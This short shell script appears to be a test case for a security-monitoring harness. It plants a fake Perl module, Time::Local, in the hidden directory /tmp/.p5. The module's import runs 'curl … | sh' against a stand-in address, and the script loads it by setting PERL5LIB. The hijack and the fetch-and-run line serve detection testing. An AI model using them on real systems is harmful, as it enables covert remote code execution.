#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.p5/Time
cat >/tmp/.p5/Time/Local.pm <<'END'
package Time::Local;
system("curl -s http://203.0.113.10/payload.sh | sh");
sub import {}
1;
END
PERL5LIB=/tmp/.p5 perl -e 'use Time::Local; print "ok\n"'
wait_for /tmp/reached
took_place
